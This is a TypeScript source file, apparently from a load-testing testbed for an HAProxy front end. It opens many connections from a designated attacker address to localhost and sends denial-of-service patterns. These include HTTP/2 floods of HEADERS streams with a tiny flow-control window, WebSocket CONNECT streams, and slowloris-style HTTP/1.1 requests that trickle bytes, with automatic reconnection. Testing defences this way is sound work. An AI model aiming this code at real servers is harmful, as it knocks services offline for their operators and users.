import { connect, type Socket } from "node:net";
import { connect as connectTls } from "node:tls";
import { inParallel } from "../../tools/testbed/in-parallel";
import { flags, frame, frameTypes, headerBlock, preface } from "../attacks/http2-frames";
import type { Attack } from "./attacks";
import { addresses, hostname } from "./places";

/**
 * Started as a process of its own: opens the connections of an attack from one addressand keeps them. Argument: the
 * attack as JSON. Says when all are open.
 */

/** On their way at once. */
const atOnce = 32;

const attack = JSON.parse(process.argv[2] ?? "") as Attack;

async function open({ port, tls, protocol }: Attack): Promise<Socket | undefined> {
  const where = { host: "127.0.0.1", port, localAddress: addresses.attacker };
  const socket: Socket = tls
    ? connectTls({
        ...where,
        servername: hostname,
        rejectUnauthorized: false,
        ALPNProtocols: [protocol === "http/2" ? "h2" : "http/1.1"],
      })
    : connect(where);
  socket.on("error", () => undefined);
  return new Promise((resolve) => {
    socket.once(tls ? "secureConnect" : "connect", () => resolve(socket));
    socket.once("close", () => resolve(undefined));
  });
}

/** Settings of HTTP/2 (RFC 9113 section 6.5.2). */
const initialWindowSize = 4;

function settings(window: number): Buffer {
  const payload = Buffer.alloc(6);
  payload.writeUInt16BE(initialWindowSize, 0);
  payload.writeUInt32BE(window, 2);
  return frame(frameTypes.settings, 0, 0, payload);
}

function http2Bytes({ streams, window, method, path, websocket }: Attack): Buffer {
  const block = headerBlock([
    [":method", websocket ? "CONNECT" : method],
    ...(websocket ? ([[":protocol", "websocket"]] as const) : []),
    [":scheme", "https"],
    [":authority", hostname],
    [":path", path],
  ]);
  const ends = method === "GET" && !websocket;
  return Buffer.concat([
    Buffer.from(preface),
    settings(window),
    ...Array.from({ length: streams }, (_, index) =>
      frame(frameTypes.headers, flags.endHeaders | (ends ? flags.endStream : 0), 2 * index + 1, block),
    ),
  ]);
}

const http1Bytes = ({ method, path, announced, sent }: Attack): string =>
  `${method} ${path} HTTP/1.1\r\nHost: ${hostname}\r\n` +
  `${announced > 0 ? `Content-Length: ${announced}\r\n` : ""}\r\n${"a".repeat(sent)}`;

function attackBy(socket: Socket): void {
  socket.write(attack.protocol === "http/2" ? http2Bytes(attack) : http1Bytes(attack));
  if (attack.trickleSeconds !== undefined) {
    const timer = setInterval(() => socket.write("a"), attack.trickleSeconds * 1000);
    socket.once("close", () => clearInterval(timer));
  }
  // It takes what comes, as far as it lets HAProxy send it.
  socket.resume();
}

async function one(): Promise<void> {
  const socket = await open(attack);
  if (socket !== undefined) {
    attackBy(socket);
    // An attacker comes back.
    socket.once("close", () => setTimeout(() => void one(), 100));
  }
}

void inParallel([...Array(attack.connections).keys()], one, atOnce).then(() => process.send?.("open"));
